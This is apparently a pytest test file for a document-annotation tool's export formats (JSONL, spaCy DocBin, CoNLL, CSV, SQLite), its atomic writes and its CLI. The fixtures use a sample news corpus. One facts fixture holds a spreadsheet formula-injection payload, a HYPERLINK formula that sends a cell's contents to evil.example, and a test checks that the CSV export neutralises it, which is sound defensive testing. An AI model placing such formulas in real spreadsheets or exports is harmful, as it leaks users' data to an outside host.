"""Export formats: JSONL, DocBin, CoNLL, CSV, the SQLite snapshot; atomic writes; the CLI."""

from __future__ import annotations

import csv
import sqlite3

import pytest

from desktop import events, exchange, review, store
from desktop.cli import main

TEXT_A = "Vladimir Putin met the Belarusian leader Alexander Lukashenko in St. Petersburg on 28 December 2021."
TEXT_B = "«Союзное государство» — “Union State” talks in Минск 🇧🇾 went well, said Лукашенко."
TEXT_D = "Putin called Lukashenko on Monday."

ENTITIES = [
    {"id": "putin", "name": "Vladimir Putin", "label": "PERSON", "aliases": ["Putin"]},
    {"id": "lukashenko", "name": "Alexander Lukashenko", "label": "PERSON", "aliases": ["Lukashenko", "Лукашенко"]},
    {"id": "st-petersburg", "name": "St. Petersburg", "label": "GPE", "aliases": []},
    {"id": "union-state", "name": "Union State", "label": "ORG", "aliases": ["Союзное государство"]},
    {"id": "minsk", "name": "Minsk", "label": "GPE", "aliases": ["Минск"]},
]


def _span(doc_id, text, surface, label, *, source="model", entity=None, occurrence=0, start=None):
    if start is None:
        start = -1
        for _ in range(occurrence + 1):
            start = text.index(surface, start + 1)
    return {"doc_id": doc_id, "start": start, "end": start + len(surface), "label": label, "text": surface,
            "entity_id": entity, "source": source, "status": "proposed"}


def build_corpus(db) -> dict[str, int]:
    """The documents with the spans a model would propose: what a fresh ingest of the folder gives."""
    for entity in ENTITIES:
        store.upsert_entity(db, entity)
    ids = {
        "a.txt": store.insert_document(db, path="a.txt", hash="ha", text=TEXT_A, title="Talks",
                                       published="2021-12-28"),
        "b.txt": store.insert_document(db, path="b.txt", hash="hb", text=TEXT_B, title="Союз"),
        "c.txt": store.insert_document(db, path="c.txt", hash="hc", text=""),
        "d.txt": store.insert_document(db, path="d.txt", hash="hd", text=TEXT_D),
    }
    a, b, d = ids["a.txt"], ids["b.txt"], ids["d.txt"]
    store.insert_spans(db, [
        _span(a, TEXT_A, "Vladimir Putin", "PERSON", entity="putin"),
        _span(a, TEXT_A, "Alexander Lukashenko", "PERSON", entity="lukashenko"),
        _span(a, TEXT_A, "St. Petersburg", "GPE", source="rule", entity="st-petersburg"),
        _span(a, TEXT_A, "Petersburg", "GPE"),  # overlaps the rule span
        _span(a, TEXT_A, "28 December 2021", "DATE"),
        _span(a, TEXT_A, "Belarusian", "NORP"),
        _span(b, TEXT_B, "Союзное государство", "ORG", entity="union-state"),
        _span(b, TEXT_B, "Union State", "GPE"),  # wrong label: the analyst relabels it
        _span(b, TEXT_B, "Минск", "GPE", entity="minsk"),
        _span(d, TEXT_D, "Putin", "PERSON", entity="putin"),
    ])
    return ids


def span_id(db, doc_id, surface, label=None):
    rows = [s for s in store.spans_for_document(db, doc_id) if s["text"] == surface
            and (label is None or s["label"] == label)]
    return rows[0]["id"]


def review_corpus(db, ids) -> None:
    """An analyst's day on the corpus, through the undoable operations."""
    a, b, c = ids["a.txt"], ids["b.txt"], ids["c.txt"]
    review.accept(db, span_id(db, a, "Vladimir Putin"))
    review.reject(db, span_id(db, a, "28 December 2021"))
    review.accept(db, span_id(db, a, "St. Petersburg"))
    # "Belarus" inside the token "Belarusian": an edge that falls inside a token.
    start = TEXT_A.index("Belarusian")
    review.add_span(db, a, start, start + len("Belarus"), "GPE", entity_id=None)
    review.reject(db, span_id(db, a, "Belarusian"))
    review.link(db, span_id(db, a, "Alexander Lukashenko"), None)  # unlinked on purpose
    review.relabel(db, span_id(db, b, "Union State"), "ORG")
    start = TEXT_B.index("Лукашенко")
    review.add_span(db, b, start, start + len("Лукашенко"), "PERSON")
    for doc in (a, b, c):
        review.mark_verified(db, doc)


@pytest.fixture
def corpus(db):
    ids = build_corpus(db)
    review_corpus(db, ids)
    return ids


def add_fact(db, doc_id, text, evidence_start, **fields):
    row = {"doc_id": doc_id, "kind": "meeting", "status": "confirmed", "source": "rule",
           "participants": ["putin", "lukashenko"], "evidence": text, "start": evidence_start,
           "end": evidence_start + len(text), **fields}
    return db["facts"].insert(store.encode("facts", row)).last_pk


def export_records(db, tmp_path, **options):
    out = tmp_path / "out.jsonl"
    result = exchange.export_file(db, out, what="spans", fmt="jsonl", **options)
    return result, exchange.read_jsonl(out)


# ---------------------------------------------------------------- JSONL


def test_jsonl_holds_verified_documents_in_prodigy_shape(db, corpus, tmp_path):
    result, records = export_records(db, tmp_path)
    assert [r["meta"]["file"] for r in records] == ["a.txt", "b.txt", "c.txt"]  # d.txt is not verified
    assert result.documents == 3
    a = records[0]
    assert set(a) >= {"text", "spans", "tokens", "meta", "answer", "_input_hash", "_task_hash"}
    assert a["answer"] == "accept" and a["text"] == TEXT_A
    labels = [(s["text"], s["label"]) for s in a["spans"]]
    # Rejected spans stay out; the proposed one left in a verified document counts.
    assert ("28 December 2021", "DATE") not in labels and ("Belarusian", "NORP") not in labels
    assert ("Alexander Lukashenko", "PERSON") in labels and ("Petersburg", "GPE") in labels
    assert all("status" not in s for s in a["spans"])
    for span in a["spans"]:
        tokens = a["tokens"][span["token_start"]:span["token_end"] + 1]
        assert tokens[0]["start"] <= span["start"] and span["end"] <= tokens[-1]["end"]
        assert a["text"][span["start"]:span["end"]] == span["text"]
    assert a["meta"]["entities"] == [s["entity"] for s in a["spans"]]
    assert a["meta"]["published"] == "2021-12-28" and a["meta"]["hash"] == "ha"
    putin = next(s for s in a["spans"] if s["text"] == "Vladimir Putin")
    assert putin["entity"] == "putin" and putin["source"] == "model"


def test_span_edge_inside_a_token_keeps_char_offsets(db, corpus, tmp_path):
    _, records = export_records(db, tmp_path)
    a = records[0]
    span = next(s for s in a["spans"] if s["text"] == "Belarus")
    token = a["tokens"][span["token_start"]]
    assert span["token_start"] == span["token_end"]
    assert token["text"] == "Belarusian"  # the token index covers the whole word...
    assert (span["start"], span["end"]) == (token["start"], token["start"] + 7)  # ...the offsets stay exact
    assert span["source"] == "analyst"


def test_tokens_rebuild_the_text(db, corpus, tmp_path):
    _, records = export_records(db, tmp_path)
    for record in records:
        rebuilt = "".join(t["text"] + (" " if t["ws"] else "") for t in record["tokens"])
        assert rebuilt == record["text"]
        assert [t["id"] for t in record["tokens"]] == list(range(len(record["tokens"])))


def test_non_ascii_survives_as_utf8(db, corpus, tmp_path):
    _, records = export_records(db, tmp_path)
    b = records[1]
    assert b["text"] == TEXT_B
    assert {(s["text"], s["label"]) for s in b["spans"]} == {
        ("Союзное государство", "ORG"), ("Union State", "ORG"), ("Минск", "GPE"), ("Лукашенко", "PERSON")}
    raw = (tmp_path / "out.jsonl").read_bytes()
    assert "🇧🇾".encode() in raw and "“Union State”".encode() in raw
    # The analyst's span was linked through the alias table.
    assert next(s for s in b["spans"] if s["text"] == "Лукашенко")["entity"] == "lukashenko"


def test_line_separator_in_text_stays_on_one_line(db, tmp_path):
    doc = store.insert_document(db, path="ls.txt", hash="h", text="One\u2028two\u2029three", status="verified")
    assert doc
    out = tmp_path / "ls.jsonl"
    exchange.export_file(db, out, what="spans", fmt="jsonl")
    assert len(out.read_text(encoding="utf-8").splitlines()) == 1
    assert exchange.read_jsonl(out)[0]["text"] == "One\u2028two\u2029three"


def test_empty_document_exports_an_empty_record(db, corpus, tmp_path):
    _, records = export_records(db, tmp_path)
    c = records[2]
    assert c["text"] == "" and c["spans"] == [] and c["tokens"] == [] and c["meta"]["entities"] == []


def test_all_adds_unverified_documents_and_status(db, corpus, tmp_path):
    _, records = export_records(db, tmp_path, all=True)
    assert [r["meta"]["file"] for r in records] == ["a.txt", "b.txt", "c.txt", "d.txt"]
    assert records[3]["meta"]["status"] == "new"
    statuses = {(s["text"], s["label"]): s["status"] for s in records[0]["spans"]}
    assert statuses[("28 December 2021", "DATE")] == "rejected"
    assert statuses[("Petersburg", "GPE")] == "proposed"
    assert statuses[("Vladimir Putin", "PERSON")] == "accepted"


# ---------------------------------------------------------------- DocBin and CoNLL


def _ent_rule(spans):
    """The documented overlap rule, applied to JSONL spans: longest in tokens first, then earliest."""
    ordered = sorted(spans, key=lambda s: (-(s["token_end"] - s["token_start"] + 1), s["token_start"]))
    kept, seen = [], set()
    for span in ordered:
        tokens = set(range(span["token_start"], span["token_end"] + 1))
        if not tokens & seen:
            kept.append(span)
            seen |= tokens
    return sorted((s["token_start"], s["token_end"] + 1, s["label"]) for s in kept)


def test_docbin_loads_with_the_jsonl_entities(db, corpus, tmp_path):
    import spacy
    from spacy.tokens import DocBin

    _, records = export_records(db, tmp_path)
    result = exchange.export_file(db, tmp_path / "train.spacy", what="spans", fmt="spacy")
    nlp = spacy.blank("en")
    docs = list(DocBin().from_disk(tmp_path / "train.spacy").get_docs(nlp.vocab))
    assert [d.text for d in docs] == [r["text"] for r in records]
    dropped = 0
    for doc, record in zip(docs, records):
        all_spans = sorted((s["token_start"], s["token_end"] + 1, s["label"]) for s in record["spans"])
        assert sorted((s.start, s.end, s.label_) for s in doc.spans["sc"]) == all_spans
        assert sorted((e.start, e.end, e.label_) for e in doc.ents) == _ent_rule(record["spans"])
        assert doc.user_data["meta"]["file"] == record["meta"]["file"]
        dropped += len(all_spans) - len(doc.ents)
    assert dropped == result.dropped_overlaps == 1  # "Petersburg" inside "St. Petersburg"
    putin = next(e for e in docs[0].ents if e.text == "Vladimir Putin")
    assert putin.kb_id_ == "putin"
    # What `spacy train` reads: the Corpus reader gives one Example per document, entities as references.
    from spacy.training import Corpus

    examples = list(Corpus(tmp_path / "train.spacy")(nlp))
    # (spaCy's reader skips the empty document; it is in the file all the same.)
    assert [len(e.reference.ents) for e in examples] == [len(d.ents) for d in docs if len(d)]


def parse_conll(path):
    """Documents as lists of sentences; entities as (sentence index, token texts, label)."""
    documents = []
    sentence = None
    for line in path.read_text(encoding="utf-8").split("\n"):
        if line.startswith("-DOCSTART-"):
            assert line == "-DOCSTART- -X- O O"  # what spaCy's ner converter splits documents on
            documents.append({"sentences": [], "ents": []})
            sentence = None
            continue
        if not line:
            sentence = None
            continue
        token, tag = line.split(" ")  # two columns: no placeholder for a converter to read as a tag
        doc = documents[-1]
        if sentence is None:
            sentence = []
            doc["sentences"].append(sentence)
        sentence.append(token)
        if tag.startswith("B-"):
            doc["ents"].append([[token], tag[2:]])
        elif tag.startswith("I-"):
            assert doc["ents"] and doc["ents"][-1][1] == tag[2:], "I- tag without its B-"
            doc["ents"][-1][0].append(token)
    return documents


def test_conll_carries_the_same_spans_as_the_docbin(db, corpus, tmp_path):
    import spacy
    from spacy.tokens import DocBin

    exchange.export_file(db, tmp_path / "train.spacy", what="spans", fmt="spacy")
    result = exchange.export_file(db, tmp_path / "train.conll", what="spans", fmt="conll")
    docs = list(DocBin().from_disk(tmp_path / "train.spacy").get_docs(spacy.blank("en").vocab))
    parsed = parse_conll(tmp_path / "train.conll")
    assert len(parsed) == len(docs) == 3
    for doc, conll in zip(docs, parsed):
        expected = [([t.text for t in e if not t.is_space], e.label_) for e in doc.ents]
        assert [(tokens, label) for tokens, label in conll["ents"]] == expected
        words = [t.text for t in doc if not t.is_space]
        assert [w for s in conll["sentences"] for w in s] == words
    assert result.dropped_overlaps == 1
    assert parsed[2] == {"sentences": [], "ents": []}  # the empty document
    assert len(parsed[0]["sentences"]) == 1 and len(parsed[1]["sentences"]) >= 1


def test_conll_never_splits_an_entity_across_sentences(db, tmp_path):
    text = "Talks ended. Then U.S. Embassy staff left."
    doc = store.insert_document(db, path="s.txt", hash="h", text=text, status="verified")
    start = text.index("ended")
    store.insert_spans(db, [{"doc_id": doc, "start": start, "end": text.index("Embassy") + 7, "label": "EVENT",
                             "source": "analyst", "status": "accepted"}])
    exchange.export_file(db, tmp_path / "s.conll", what="spans", fmt="conll")
    parsed = parse_conll(tmp_path / "s.conll")
    assert parsed[0]["ents"] == [[["ended", ".", "Then", "U.S.", "Embassy"], "EVENT"]]


# ---------------------------------------------------------------- facts and entities


@pytest.fixture
def facts(db, corpus):
    a = corpus["a.txt"]
    evidence = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
    confirmed = add_fact(db, a, evidence, 0, date_start="2021-12-28", date_end="2021-12-28", precision="day",
                         place="@St. Petersburg", held="held")
    trade = add_fact(db, a, "Trade fell by 5% to $30 billion.", 20, kind="trade", value=30e9, currency="USD",
                     change_pct=-5.0, qualifier="-approx", period_start="2021-01-01", period_end="2021-12-31",
                     participants=[])
    proposed = add_fact(db, a, "They will meet.", 40, status="proposed", held="planned")
    events.update_events(db)
    [(event, _flags)] = store.event_memberships(db, [confirmed]).values()
    return {"confirmed": confirmed, "trade": trade, "proposed": proposed, "event": event}


def read_csv(path, encoding="utf-8"):
    with open(path, encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle))


def test_facts_csv_neutralises_formulas(db, facts, tmp_path):
    out = tmp_path / "facts.csv"
    result = exchange.export_file(db, out, what="facts", fmt="csv")
    rows = read_csv(out)
    assert result.records == len(rows) == 2  # the proposed fact stays out
    assert "status" not in rows[0]
    meeting = next(r for r in rows if r["kind"] == "meeting")
    assert meeting["evidence"].startswith("'=HYPERLINK(")
    assert meeting["place"] == "'@St. Petersburg"
    assert meeting["participants"] == "putin; lukashenko"
    assert meeting["participant_names"] == "Vladimir Putin; Alexander Lukashenko"
    assert meeting["event_id"] == str(facts["event"]) and meeting["file"] == "a.txt"
    assert (meeting["start"], meeting["end"]) == ("0", str(len('=HYPERLINK("http://evil.example/?"&A1, "Click")')))
    trade = next(r for r in rows if r["kind"] == "trade")
    assert float(trade["value"]) == 30e9
    assert trade["change_pct"] == "-5.0"  # a negative number stays a number, not a neutralised formula
    assert trade["qualifier"] == "'-approx"
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert not any(cell.startswith(("=", "+", "@")) for row in csv.reader(raw.decode().splitlines()) for cell in row)


def test_facts_csv_with_bom_and_all(db, facts, tmp_path):
    out = tmp_path / "facts.csv"
    exchange.export_file(db, out, what="facts", fmt="csv", all=True, bom=True)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(out, encoding="utf-8-sig")
    # The fixture's facts (the corpus's own span decisions re-proposed its articles' facts too).
    mine = {str(facts[k]) for k in ("confirmed", "trade", "proposed")}
    assert sorted(r["status"] for r in rows if r["fact_id"] in mine) == ["confirmed", "confirmed", "proposed"]
    assert {r["status"] for r in rows} <= {"confirmed", "proposed"}


def test_facts_jsonl_keeps_types(db, facts, tmp_path):
    out = tmp_path / "facts.jsonl"
    exchange.export_file(db, out, what="facts", fmt="jsonl")
    rows = exchange.read_jsonl(out)
    meeting = next(r for r in rows if r["kind"] == "meeting")
    # JSON is not a spreadsheet: the quote is exact.
    assert meeting["evidence"].startswith("=HYPERLINK(")
    assert meeting["participants"] == ["putin", "lukashenko"]
    assert meeting["event_id"] == facts["event"]
    trade = next(r for r in rows if r["kind"] == "trade")
    assert (trade["value"], trade["currency"], trade["change_pct"]) == (30e9, "USD", -5.0)


def test_entities_csv_counts_mentions(db, corpus, tmp_path):
    out = tmp_path / "entities.csv"
    exchange.export_file(db, out, what="entities", fmt="csv")
    rows = {r["id"]: r for r in read_csv(out)}
    assert set(rows) == {e["id"] for e in ENTITIES}
    putin = rows["putin"]
    assert putin["name"] == "Vladimir Putin" and putin["label"] == "PERSON"
    assert putin["aliases"] == "Putin; Vladimir Putin"
    expected = db.execute("select count(*), sum(status = 'accepted') from spans where entity_id = 'putin'").fetchone()
    assert (int(putin["mentions"]), int(putin["accepted"])) == expected == (2, 1)


# ---------------------------------------------------------------- project snapshot

MEETINGS_PER_YEAR = """
select substr(f.date_start, 1, 4) as year,
       count(distinct coalesce(m.event_id, -f.id)) as meetings,
       group_concat(distinct d.path) as sources
from facts f join documents d on d.id = f.doc_id left join event_members m on m.fact_id = f.id
where f.kind = 'meeting' and f.status = 'confirmed'
group by year order by year
"""


def test_project_snapshot_opens_elsewhere(db_path, tmp_path):
    db = store.open_db(db_path)
    ids = build_corpus(db)
    add_fact(db, ids["a.txt"], "Putin met Lukashenko.", 0, date_start="2021-12-28")
    add_fact(db, ids["b.txt"], "They met.", 0, date_start="2022-02-18")
    add_fact(db, ids["b.txt"], "They met again.", 10, date_start="2022-09-26")
    out = tmp_path / "snapshot.sqlite"
    result = exchange.export_file(db, out, what="project", fmt="sqlite")
    db.close()
    assert result.documents == 4
    assert not (tmp_path / "snapshot.sqlite-wal").exists()
    conn = sqlite3.connect(out)
    try:
        assert conn.execute("pragma journal_mode").fetchone()[0] == "delete"
        assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"
        assert conn.execute("select count(*) from documents").fetchone()[0] == 4
        rows = conn.execute(MEETINGS_PER_YEAR).fetchall()
        assert rows == [("2021", 1, "a.txt"), ("2022", 2, "b.txt")]
    finally:
        conn.close()
    # It is still an Article Review database.
    again = store.open_db(out)
    assert store.count_documents(again)["total"] == 4
    again.close()


# ---------------------------------------------------------------- atomic writes, cancel, progress


@pytest.mark.parametrize("existing", [pytest.param(False, id="absent"), pytest.param(True, id="old-file")])
def test_interrupted_export_leaves_no_half_file(db, corpus, tmp_path, monkeypatch, existing):
    out = tmp_path / "out.jsonl"
    if existing:
        out.write_text("old\n", encoding="utf-8")
    real = exchange.common.json_line
    calls = []

    def failing(record):
        calls.append(record)
        if len(calls) == 2:
            raise OSError("disk full")
        return real(record)

    monkeypatch.setattr(exchange.common, "json_line", failing)
    with pytest.raises(OSError, match="disk full"):
        exchange.export_file(db, out, what="spans", fmt="jsonl")
    assert (out.read_text(encoding="utf-8") == "old\n") if existing else not out.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_closing_the_generator_midway_leaves_no_file(db, corpus, tmp_path):
    out = tmp_path / "out.conll"
    steps = exchange.export(db, out, what="spans", fmt="conll")
    next(steps)
    next(steps)
    steps.close()
    assert list(tmp_path.iterdir()) == []


def test_cancel_reports_and_leaves_no_file(db, corpus, tmp_path):
    out = tmp_path / "out.jsonl"
    steps = []
    for step in exchange.export(db, out, what="spans", fmt="jsonl", cancel=lambda: len(steps) >= 2):
        steps.append(step)
    assert steps[-1].result.cancelled and steps[-1].message == "cancelled"
    assert steps[-1].result.records == 1  # one document was written to the temporary file, then dropped
    assert list(tmp_path.iterdir()) == []


def test_progress_counts_documents(db, corpus, tmp_path):
    steps = list(exchange.export(db, tmp_path / "o.jsonl", what="spans", fmt="jsonl"))
    assert [s.done for s in steps[:-1]] == [0, 1, 2, 3]
    assert all(s.total == 3 for s in steps[:-1])
    assert steps[-1].result.records == 3 and not steps[-1].result.cancelled


@pytest.mark.parametrize(
    ("what", "fmt", "options", "message"),
    [
        pytest.param("spans", "csv", {}, "spans cannot be exported as csv", id="spans-csv"),
        pytest.param("facts", "spacy", {}, "facts cannot be exported as spacy", id="facts-spacy"),
        pytest.param("spans", "jsonl", {"bom": True}, "--bom applies to CSV only", id="bom-jsonl"),
        pytest.param("project", "sqlite", {"all": True}, "--all does not apply", id="all-project"),
        pytest.param("people", "csv", {}, "cannot export 'people'", id="unknown"),
    ],
)
def test_bad_combinations_are_refused(what, fmt, options, message):
    with pytest.raises(exchange.ExchangeError, match=message):
        exchange.check_combination(what, fmt, **options)


# ---------------------------------------------------------------- CLI


def test_cli_export_and_errors(db_path, tmp_path, capsys):
    db = store.open_db(db_path)
    ids = build_corpus(db)
    review.mark_verified(db, ids["a.txt"])
    db.close()
    out = tmp_path / "x.conll"
    assert main(["export", "--db", str(db_path), "--format", "conll", "-o", str(out)]) == 0
    captured = capsys.readouterr()
    assert "1 document" in captured.out and str(out) in captured.out
    assert "overlap" in captured.err  # "Petersburg" inside "St. Petersburg" could not be held
    assert out.read_text(encoding="utf-8").startswith("-DOCSTART-")
    assert main(["export", "--db", str(db_path), "--what", "facts", "--format", "spacy", "-o", str(out)]) == 2
    assert "facts cannot be exported as spacy" in capsys.readouterr().err
    missing = tmp_path / "none.sqlite"
    assert main(["export", "--db", str(missing), "--format", "jsonl", "-o", str(out)]) == 2
    assert "no database" in capsys.readouterr().err
    assert not missing.exists()


def test_cli_export_project(db_path, tmp_path, capsys):
    db = store.open_db(db_path)
    build_corpus(db)
    db.close()
    out = tmp_path / "snap.sqlite"
    assert main(["export", "--db", str(db_path), "--what", "project", "--format", "sqlite", "-o", str(out)]) == 0
    conn = sqlite3.connect(out)
    assert conn.execute("select count(*) from spans").fetchone()[0] == 10
    conn.close()
    assert "snap.sqlite" in capsys.readouterr().out


@pytest.mark.parametrize(("what", "fmt"), [pytest.param("spans", "jsonl", id="jsonl"),
                                           pytest.param("project", "sqlite", id="sqlite")])
def test_exported_files_get_the_usual_permissions(db, corpus, tmp_path, what, fmt):
    reference = tmp_path / "reference.txt"
    reference.write_text("x", encoding="utf-8")
    out = tmp_path / f"out.{fmt}"
    exchange.export_file(db, out, what=what, fmt=fmt)
    assert out.stat().st_mode & 0o777 == reference.stat().st_mode & 0o777


def test_export_sees_one_state_while_another_connection_writes(db_path, tmp_path):
    db = store.open_db(db_path)
    ids = build_corpus(db)
    for doc in ids.values():
        review.mark_verified(db, doc)
    other = store.open_db(db_path)
    steps = exchange.export(db, tmp_path / "o.jsonl", what="spans", fmt="jsonl")
    next(steps)
    next(steps)  # a.txt written; now the window rejects a span of d.txt and commits
    review.reject(other, span_id(other, ids["d.txt"], "Putin"))
    for _ in steps:
        pass
    records = exchange.read_jsonl(tmp_path / "o.jsonl")
    assert [s["text"] for s in records[3]["spans"]] == ["Putin"]  # the state when the export began
    assert store.spans_for_document(other, ids["d.txt"])[0]["status"] == "rejected"
    assert not db.conn.in_transaction
    other.close()
    db.close()
